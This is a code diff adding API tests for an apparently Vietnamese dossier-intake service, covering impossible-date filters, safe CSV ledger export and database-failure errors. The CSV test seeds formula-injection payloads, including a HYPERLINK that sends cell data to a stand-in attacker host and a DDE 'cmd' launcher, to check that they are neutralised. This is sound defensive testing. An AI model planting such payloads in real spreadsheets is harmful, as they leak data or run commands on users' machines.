@@ -74,3 +74,82 @@ test('each set-up list route shows all its rows and a total that agrees', async 
     assert.deepEqual(r.json.items.map(key).sort(), [...want].sort(), `${path} items`);
   }
 });
+
+const APPLICANT = { name: 'Lê Thị Hoa', id_number: '045199001122', address: 'Thôn Tân Hợp, xã Tân Hợp',
+  phone: '0912345678' };
+const intake = (applicant) => s.as('clerk1', 'POST', '/api/v1/dossiers',
+  { body: { procedure: 'P5', applicant: { ...APPLICANT, ...applicant }, outcome: 'received' } });
+
+test('an impossible date in any date filter of the dossier list is a 400 naming the filter', async () => {
+  for (const key of ['received_from', 'received_to', 'due_before']) {
+    for (const bad of ['2026-02-30', '2025-02-29', '2026-04-31', '2026-13-01', '2026-00-10']) {
+      const r = await s.as('sup', 'GET', `/api/v1/dossiers?${key}=${bad}`);
+      assert.equal(r.status, 400, `${key}=${bad}: ${r.status} ${r.text}`);
+      assert.equal(r.json.error.code, 'invalid_date', `${key}=${bad}`);
+      assert.match(r.json.error.message_en, new RegExp(key), `${key}=${bad} names the filter`);
+    }
+    const ok = await s.as('sup', 'GET', `/api/v1/dossiers?${key}=2024-02-29`);
+    assert.equal(ok.status, 200, `${key}=2024-02-29 is a real day: ${ok.text}`);
+  }
+  const epoch = await s.as('sup', 'GET', '/api/v1/dossiers?due_before=1790000000');
+  assert.equal(epoch.status, 200, epoch.text);
+  const ledger = await s.as('sup', 'GET', '/api/v1/ledger.csv?from=2026-02-30&to=2026-03-31');
+  assert.equal(ledger.status, 400, ledger.text);
+});
+
+test('the ledger CSV opens safely in a spreadsheet: formulas neutralised, BOM, header, file name', async () => {
+  const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', '+84 912 345 678', '@SUM(A1:A9)', '-2+3+cmd|"/C calc"!A0'];
+  for (const name of names) {
+    const r = await intake({ name, address: `@${name}` });
+    assert.equal(r.status, 201, r.text);
+  }
+  const r = await s.as('clerk1', 'GET', '/api/v1/ledger.csv?from=2000-01-01&to=2099-12-31');
+  assert.equal(r.status, 200, r.text);
+  assert.match(r.headers['content-type'], /^text\/csv; charset=utf-8/);
+  assert.equal(r.headers['content-disposition'], 'attachment; filename="so-theo-doi-2000-01-01-2099-12-31.csv"');
+  assert.ok(r.text.startsWith('\uFEFFline,code,procedure,'), `BOM then header: ${JSON.stringify(r.text.slice(0, 40))}`);
+  for (const name of names) {
+    const cell = `"'${name.replaceAll('"', '""')}"`;
+    assert.ok(r.text.includes(cell), `${name} as ${cell}`);
+    assert.ok(r.text.includes(`"'@${name.replaceAll('"', '""')}"`), `address @${name}`);
+  }
+  // No cell anywhere begins with a character a spreadsheet would run.
+  assert.doesNotMatch(r.text, /(^|,)"[=+\-@\t\r]/m);
+});
+
+// A second office whose tables are broken one by one under the running server.
+test('a read the database cannot finish answers the error shape, never a short 200', async () => {
+  const b = await startServer({ bundle: BUNDLE });
+  try {
+    // A set-up list.
+    assert.equal((await b.as('admin', 'GET', '/api/v1/offices?limit=100')).json.items.length, BUNDLE.offices.length);
+    breakRow(b, 'offices', 3);
+    assertServerError(await b.as('admin', 'GET', '/api/v1/offices?limit=100'), 'offices list');
+    // The dossier list, the ledger and the citizen's lookup; the audit.
+    const made = [];
+    for (let i = 0; i < 3; i++) {
+      const r = await b.as('clerk1', 'POST', '/api/v1/dossiers', { body: { procedure: 'P5', applicant: APPLICANT, outcome: 'received' } });
+      assert.equal(r.status, 201, r.text);
+      made.push(r.json);
+    }
+    const ledgerPath = '/api/v1/ledger.csv?from=2000-01-01&to=2099-12-31';
+    assert.equal((await b.as('sup', 'GET', '/api/v1/dossiers')).json.total, 3);
+    assert.equal((await b.as('sup', 'GET', ledgerPath)).text.trim().split('\n').length, 4);
+    // The audit: a chain that cannot be read to its end is not "intact".
+    const intact = cli(['audit-verify', '--db', b.db]);
+    assert.equal(intact.status, 0, intact.stderr);
+    breakRow(b, 'events', 3);
+    const r = cli(['audit-verify', '--db', b.db]);
+    assert.notEqual(r.status, 0, `audit-verify on an unreadable chain: ${r.stdout}`);
+    assert.doesNotMatch(r.stdout, /^ok/);
+    assert.match(r.stderr, /store_error/);
+    const id2 = b.sql(`SELECT id FROM dossiers WHERE code = '${made[1].dossier.code}'`)[0].id;
+    breakRow(b, 'dossiers', id2);
+    assertServerError(await b.as('sup', 'GET', '/api/v1/dossiers'), 'dossier list');
+    assertServerError(await b.as('sup', 'GET', ledgerPath), 'ledger');
+    assertServerError(await b.req('GET', `/api/v1/public/dossiers/${made[1].dossier.code}?secret=${made[1].secret}`), 'public lookup');
+  } finally {
+    await b.stop();
+    b.cleanup();
+  }
+});
